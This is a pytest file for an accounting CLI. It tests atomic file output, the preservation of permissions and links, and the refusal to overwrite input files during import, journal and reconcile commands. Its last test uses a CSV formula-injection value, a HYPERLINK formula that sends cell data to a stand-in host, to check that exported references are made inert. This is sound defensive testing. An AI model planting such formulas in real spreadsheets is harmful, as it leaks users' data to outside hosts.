"""Files that commands write: whole or not at all, and never one that is being read."""

import csv
import gzip
import json
import os
from pathlib import Path
from uuid import uuid4

import pytest

from app.cli.files.output_files import keep_apart, output
from app.services.tenancy.tenants import NotPossible

ACCOUNTS = """\
reference,currency,product,opened_on,principal_minor,effective_on
A-1,USD,invoice,2025-01-01,900000000,2026-01-01
"""
HEADER = "reference,account_reference,amount_minor,currency,effective_on\n"
LINK = {"symbolic": os.symlink, "hard": os.link}


@pytest.fixture
def tenant(accord, tmp_path):
    name = f"sandbox-{uuid4().hex[:8]}"
    accord("tenants", "create", name, "--sandbox")
    (tmp_path / "a.csv").write_text(ACCOUNTS)
    made = accord("import", "accounts", str(tmp_path / "a.csv"), "--tenant", name, *ON)
    assert made.exit_code == 0, made.output
    return name


ON = ("--business-date", "2026-01-05")


@pytest.fixture
def book(tmp_path):
    path = tmp_path / "book.csv"
    path.write_text("what was there\n")
    return path


# The helper -------------------------------------------------------------------------------


def test_a_file_is_written_whole(book):
    book.chmod(0o640)
    with output(book) as file:
        file.write("new\n")
        assert book.read_text() == "what was there\n"
    assert book.read_text() == "new\n"
    assert book.stat().st_mode & 0o777 == 0o640
    assert [one.name for one in book.parent.iterdir()] == [book.name]


@pytest.mark.parametrize("trouble", [RuntimeError, KeyboardInterrupt])
def test_what_goes_wrong_leaves_it_as_it_was(book, trouble):
    with pytest.raises(trouble), output(book) as file:  # noqa: PT012 - the block is the test
        file.write("half")
        raise trouble
    assert book.read_text() == "what was there\n"
    assert [one.name for one in book.parent.iterdir()] == [book.name]


def test_a_folder_that_is_not_there_is_named(tmp_path):
    there = tmp_path / "none"
    with pytest.raises(OSError, match=f"There is no folder {there}"), output(there / "book.csv"):
        raise AssertionError("nothing can be written there")


def test_a_link_stays_one(book, tmp_path):
    link = tmp_path / "link.csv"
    link.symlink_to(book)
    with output(link) as file:
        file.write("new\n")
    assert link.is_symlink()
    assert book.read_text() == "new\n"


def test_a_device_is_written_to_as_it_is():
    with output(Path(os.devnull)) as file:
        file.write("gone")
    assert not Path(os.devnull).is_file()


@pytest.mark.parametrize("link", [None, *LINK])
def test_no_output_is_an_input(book, tmp_path, link):
    other = book
    if link:
        other = tmp_path / "other.csv"
        LINK[link](book, other)
    with pytest.raises(NotPossible, match="the same file as"):
        keep_apart([other], inputs=[str(book)])
    with pytest.raises(NotPossible, match="the same file as"):
        keep_apart([book, other], inputs=[])
    keep_apart([tmp_path / "new.csv", tmp_path / "newer.csv", None, Path("-")], inputs=[book, "-"])
    with pytest.raises(NotPossible):
        keep_apart([tmp_path / "new.csv", tmp_path / "x" / ".." / "new.csv"], inputs=[])


# The commands -----------------------------------------------------------------------------


@pytest.mark.parametrize("link", [None, *LINK])
def test_rejects_never_cut_the_file_that_is_read(accord, tenant, tmp_path, link):
    payments = tmp_path / "rejects.csv"
    rows = [f"P-{n},A-1,123456,USD,2026-01-02\n" for n in range(2_000)]  # more than one buffer
    payments.write_text(HEADER + "".join(rows))
    rejects = payments
    if link:
        rejects = tmp_path / "other.csv"
        LINK[link](payments, rejects)
    before = payments.read_bytes()
    done = accord(
        "import", "payments", str(payments), "--rejects", str(rejects), "--tenant", tenant, *ON
    )

    assert done.exit_code == 1
    assert "the same file as" in done.stderr
    assert payments.read_bytes() == before


def test_rejects_of_a_file_that_breaks_off_are_kept(accord, tenant, tmp_path):
    payments, rejects = tmp_path / "p.csv.gz", tmp_path / "rejects.csv"
    rows = [f"P-{n},A-{9 - n % 2},1,USD,2026-01-02\n" for n in range(40_000)]
    payments.write_bytes(gzip.compress((HEADER + "".join(rows)).encode())[:-40_000])
    words = ("--tenant", tenant, "--rejects", str(rejects), "--page-size", "100", *ON)
    done = accord("import", "payments", str(payments), *words)

    assert done.exit_code == 1
    assert "The record that begins on line" in done.stderr
    assert "No account 'A-9' here" in rejects.read_text()


@pytest.mark.parametrize(
    "words",
    [
        pytest.param(("--tenant", "nosuch"), id="no such tenant"),
        pytest.param(("--from", "2026-02-01", "--to", "2026-01-01"), id="days the wrong way"),
    ],
)
def test_a_journal_that_is_refused_empties_nothing(accord, tenant, book, words):
    given = words if "--tenant" in words else (*words, "--tenant", tenant)
    done = accord("journal", "--output", str(book), *given)

    assert done.exit_code == 1
    assert book.read_text() == "what was there\n"


def test_a_journal_is_not_written_over_its_chart(accord, tenant, book):
    book.write_text(json.dumps({"receivable_principal": "Debitors"}))
    done = accord("journal", "--tenant", tenant, "--chart", str(book), "--output", str(book))

    assert done.exit_code == 1
    assert json.loads(book.read_text()) == {"receivable_principal": "Debitors"}


@pytest.mark.parametrize("option", ["--csv", "--json"])
@pytest.mark.parametrize("link", [None, *LINK])
def test_reconciling_never_writes_what_it_reads(accord, tenant, tmp_path, option, link):
    file = tmp_path / "settled.csv"
    file.write_text("reference,amount_minor,currency,date\nS-1,1,USD,2026-01-02\n")
    other = file
    if link:
        other = tmp_path / "other"
        LINK[link](file, other)
    before = file.read_bytes()
    done = accord("reconcile", str(file), "--tenant", tenant, option, str(other))

    assert (done.exit_code, file.read_bytes()) == (1, before)
    assert "the same file as" in done.stderr


def test_reconciling_a_bad_file_leaves_the_last_report(accord, tenant, tmp_path, book):
    (tmp_path / "bad.csv").write_text("nothing,known\n1,2\n")
    done = accord("reconcile", str(tmp_path / "bad.csv"), "--tenant", tenant, "--csv", str(book))

    assert done.exit_code == 1
    assert book.read_text() == "what was there\n"


def test_a_reference_that_begins_a_formula_is_inert(accord, tenant, tmp_path):
    file, rows = tmp_path / "settled.csv", tmp_path / "rows.csv"
    formula = '=HYPERLINK("http://x/?"&A1)'
    with file.open("w", newline="") as there:
        writer = csv.writer(there)
        writer.writerow(("reference", "amount_minor", "currency", "date"))
        writer.writerow((formula, -5, "USD", "2026-01-02"))
    accord("reconcile", str(file), "--tenant", tenant, "--csv", str(rows))

    with rows.open(newline="") as there:
        (row,) = csv.DictReader(there)
    assert row["reference"] == f"'{formula}"
    assert row["amount_there_minor"] == "-5"
